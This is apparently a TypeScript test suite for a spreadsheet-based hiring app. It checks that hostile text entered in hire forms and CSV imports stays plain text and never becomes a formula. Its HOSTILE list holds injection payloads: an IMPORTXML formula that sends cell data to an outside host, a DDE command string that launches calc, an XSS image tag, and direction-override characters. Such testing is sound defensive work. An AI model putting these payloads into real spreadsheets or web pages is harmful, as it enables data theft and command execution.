import type { Cell } from '../../src/model/cell';
import type { Field } from '../../src/model/schema';
import { tableSpec } from '../../src/model/tables';
import type { ImportTable } from '../../src/rpc/imports';
import { ask, call, type Host, open, refusal, write } from './drive';

const SUPPORT = 'Multilingual Customer Support';
const LONGEST = 50_000;

/** What people, exports and attackers write where words belong: each must come back as it was given. */
const HOSTILE: readonly (readonly [string, string])[] = [
  ['a formula', '=1+1'],
  ['a formula that calls home', '=IMPORTXML("https://x.test/?"&A1,"//a")'],
  ['a link', '=HYPERLINK("https://x.test","Ana")'],
  ['a plus', '+49 151 2345'],
  ['a minus', '-5'],
  ['an at sign', '@SUM(A1)'],
  ['a command of an old program', "=cmd|'/C calc'!A0"],
  ['an apostrophe', "'quoted"],
  ['two apostrophes', "''quoted''"],
  ['an apostrophe and a formula', "'=1+1"],
  ['a full-width equals sign', '＝1+1'],
  ['a full-width plus', '＋1'],
  ['a full-width minus', '－1'],
  ['a full-width at sign', '＠x'],
  ['a formula on a second line', 'x\n=1+1'],
  ['a tab inside', 'a\tb'],
  ['what looks like a date', '1-2'],
  ['a fraction', '3/4'],
  ['a date', '2026-03-02'],
  ['a date in words', '2 Mar 2026'],
  ['a time', '12:30'],
  ['a number in exponent form', '1e5'],
  ['leading zeros', '007'],
  ['a long number', '12345678901234567890'],
  ['a percentage', '50%'],
  ['an amount', '$5.00'],
  ['a number with commas', '1,234'],
  ['a comma for a point', '0,5'],
  ['a truth', 'TRUE'],
  ['a small truth', 'false'],
  ['an array', '{1,2;3,4}'],
  ['quotes', 'say "hi", \'yo\''],
  ['markup', '<img src=x onerror=alert(1)>'],
  ['emoji', '👩‍👩‍👧‍👦 🇪🇸 é'],
  ['right to left', 'שלום عليكم'],
  ['direction marks', '\u202eevil\u202c\u200b'],
  ['half a pair', 'x\ud83dx'],
  ['a prototype', '__proto__'],
  ['a placeholder', '{name} {count}'],
  ['a replacement pattern', '$& $1 $$'],
  ['the longest text', 'x'.repeat(LONGEST)],
  ['the longest formula', `=${'x'.repeat(LONGEST - 2)}`],
];

/** Errors of a sheet: as text they could not be told from a broken formula. */
const ERRORS = ['#N/A', '#REF!', '#ERROR!'];

function column(host: Host, sheet: string, header: string): readonly unknown[] {
  const [head = [], ...rows] = host.values(sheet);
  return rows.map((row) => row[head.indexOf(header)]);
}

/** No cell of the document is a formula that we did not write. */
function formulas(host: Host): readonly string[] {
  return host.grid
    .sheets()
    .flatMap((sheet) =>
      host.grid
        .read(sheet.id, { top: 0, left: 0, ...host.grid.used(sheet.id) })
        .flatMap((row) =>
          row.flatMap((cell) => (cell.formula === undefined ? [] : [`${sheet.name}: ${cell.formula}`])),
        ),
    );
}

/** A value that fits a field which is not about words. */
function plain(field: Field, i: number): Cell {
  switch (field.type) {
    case 'date':
      // A day of its own where the date is the key.
      return new Date(Date.UTC(2026, 0, 1 + i)).toISOString().slice(0, 10);
    case 'currency':
      return 'EUR';
    case 'choice':
      return field.options?.[0] ?? SUPPORT;
    case 'boolean':
      return true;
    case 'id':
    case 'text':
    case 'longText':
      return `x${i}`;
    case 'timeZone':
    case 'weekend':
      return '';
    default:
      return 1;
  }
}

const TABLES: readonly ImportTable[] = [
  'contacts',
  'adSpend',
  'listings',
  'output',
  'pipeline',
  'hires',
  'holidays',
  'fx',
  'leave',
];

const words = (table: ImportTable): readonly Field[] =>
  tableSpec(table).fields.filter(({ type, id }) => (type === 'text' || type === 'longText') && id !== 'name');

function start(host: Host, table: ImportTable, source: string, newHire = ''): string {
  const input = {
    table,
    file: { name: '=evil.csv', rows: 1, fingerprint: 'f' },
    assignBy: table === 'adSpend' ? ('campaign' as const) : ('person' as const),
    assignments: [{ source, hireIds: newHire === '' ? ['H-0001'] : [], newHire, skip: false }],
    counts: { add: 1, change: 0, same: 0, fault: 0 },
    sample: [],
  };
  const preview = call(host, 'importStart', input);
  if (preview.status !== 'preview') throw new Error('no preview');
  const started = call(host, 'importStart', { ...input, confirm: preview.preview.hash });
  if (started.status !== 'started') throw new Error('not started');
  return started.importId;
}

function chunk(
  host: Host,
  table: ImportTable,
  rows: readonly Readonly<Record<string, Cell>>[],
  source: string,
) {
  const importId = start(host, table, source);
  const sent = rows.map((values) => ({ source, values }));
  return ask(host, 'importChunk', { importId, file: '=evil.csv', table, index: 0, of: 1, rows: sent });
}

describe.each(['memory', 'sheets'] as const)('hostile texts, in the engine %s', (engine) => {
  // The engine that calculates is slow: it gets every fifth text one by one, and all of them at once.
  const some = HOSTILE.filter((_each, i) => engine === 'memory' || i % 5 === 0);
  const fresh = () => {
    const host = open({ engine, locale: 'en_US' });
    write(host, 'setup', { modules: ['ramp', 'kpi'] });
    write(host, 'hireAdd', { hire: { name: 'Ana', role: SUPPORT, startDate: '2026-03-02' } });
    return host;
  };

  test('come back from the form of a hire, added and edited', () => {
    const host = fresh();
    const nameOf = (text: string, i: number) => `${text.slice(0, 1000)}!${i}`;
    for (const [i, [, text]] of some.entries()) {
      const hire = { role: SUPPORT, startDate: '2026-03-02', manager: text, holidayCalendar: text };
      write(host, 'hireAdd', { hire: { ...hire, name: nameOf(text, i) } });
    }
    const texts = some.map(([, text]) => text);
    expect(column(host, 'Hires', 'Manager').slice(1)).toEqual(texts);
    expect(column(host, 'Hires', 'Holiday calendar').slice(1)).toEqual(texts);
    expect(column(host, 'Hires', 'Name').slice(1)).toEqual(texts.map(nameOf));
    for (const [what, text] of some) {
      write(host, 'hireEdit', { hireId: 'H-0001', hire: { name: text, manager: text.slice(1) } });
      expect([what, column(host, 'Hires', 'Name')[0]]).toEqual([what, text]);
      // What the form shows is what stands there.
      expect(call(host, 'hireForm', { hireId: 'H-0001' }).hire?.name).toBe(text);
    }
    expect(formulas(host)).toEqual([]);
    const list = call(host, 'undoList', {});
    write(host, 'undo', { changeId: list[0]?.changeId ?? '' });
    expect(column(host, 'Hires', 'Name')[0]).toBe(some[some.length - 2]?.[1]);
  });

  const tables =
    engine === 'memory'
      ? TABLES
      : TABLES.filter((table) => ['contacts', 'hires', 'holidays'].includes(table));

  test.each(tables)('come back from an import into %s', (table) => {
    const host = fresh();
    const fields = words(table);
    const spec = tableSpec(table);
    const rows = HOSTILE.map(([, text], i) => {
      const needed = spec.fields.filter(
        ({ id, required }) => (required || id === 'sourceId') && id !== 'hireId',
      );
      const base = Object.fromEntries(needed.map((field) => [field.id, plain(field, i)]));
      return { ...base, ...Object.fromEntries(fields.map(({ id }) => [id, text])) };
    });
    const result = chunk(host, table, rows, '=Agent\'s "name"');
    expect(result.ok ? '' : result.error.message).toBe('');
    expect(result).toMatchObject({ ok: true, value: { added: HOSTILE.length } });
    for (const field of fields) {
      const own = column(host, spec.sheet, field.header).slice(table === 'hires' ? 1 : 0);
      expect([field.id, own]).toEqual([field.id, HOSTILE.map(([, text]) => text)]);
    }
    // The same file again: what stands there is recognised as the same.
    expect(chunk(host, table, rows, '=Agent\'s "name"')).toMatchObject({
      ok: true,
      value: { added: 0, changed: 0, same: HOSTILE.length },
    });
    expect(formulas(host)).toEqual([]);
  });

  test('come back as IDs', () => {
    const host = fresh();
    const ids = HOSTILE.map(([, text]) => text).filter((text) => text.length < 1000);
    const rows = ids.map((sourceId) => ({ date: '2026-03-02', sourceId, metric: 'm', quantity: 1 }));
    expect(chunk(host, 'output', rows, 'Ana')).toMatchObject({ ok: true, value: { added: ids.length } });
    expect(column(host, 'Output', 'Source ID')).toEqual(ids);
    expect(chunk(host, 'output', rows, 'Ana')).toMatchObject({
      ok: true,
      value: { added: 0, same: ids.length },
    });
  });

  test('come back as names of new hires, and as remembered names', () => {
    const host = fresh();
    // A name in another width is the same name.
    const texts = some
      .map(([, text]) => text)
      .filter((text) => text.length < 1000 && !/^[＝＋－＠]/.test(text));
    for (const text of texts) start(host, 'contacts', text, text);
    expect(column(host, 'Hires', 'Name').slice(1)).toEqual(texts);
    const { people } = call(host, 'importContext', { table: 'contacts' });
    expect(texts.filter((text) => people[text] === undefined && text !== '__proto__')).toEqual([]);
    expect(formulas(host)).toEqual([]);
  });

  test('stay text on the dashboard and the printed plan', () => {
    const host = fresh();
    write(host, 'hireEdit', { hireId: 'H-0001', hire: { name: '=1+1' } });
    write(host, 'planGenerate', { hireId: 'H-0001' });
    call(host, 'planPrint', { hireId: 'H-0001' });
    call(host, 'dashboardRefresh', {});
    expect(host.values('Dashboard').flat()).toContain('=1+1');
    expect(formulas(host)).toEqual([]);
  });

  test('that are too long are refused before anything is written, naming the row', () => {
    const host = fresh();
    const before = JSON.stringify(host.grid.sheets().map(({ name }) => host.values(name)));
    const long = 'x'.repeat(LONGEST + 1);
    const hire = { name: 'Bo', role: SUPPORT, startDate: '2026-03-02' };
    expect(refusal(host, 'hireAdd', { hire: { ...hire, manager: long } })).toMatch(/Manager.*50,000/);
    expect(refusal(host, 'hireEdit', { hireId: 'H-0001', hire: { name: long } })).toMatch(/Name.*50,000/);
    expect(JSON.stringify(host.grid.sheets().map(({ name }) => host.values(name)))).toBe(before);
  });

  test.each(engine === 'memory' ? ERRORS : ['#N/A'])(
    '%s is refused as a name: it could not be told from a broken formula',
    (text) => {
      const host = fresh();
      const hire = { name: text, role: SUPPORT, startDate: '2026-03-02' };
      expect(refusal(host, 'hireAdd', { hire })).toContain(text);
      expect(refusal(host, 'hireEdit', { hireId: 'H-0001', hire: { manager: text } })).toContain(text);
      expect(chunk(host, 'hires', [{ name: text }], text)).toMatchObject({ ok: false });
    },
  );
});
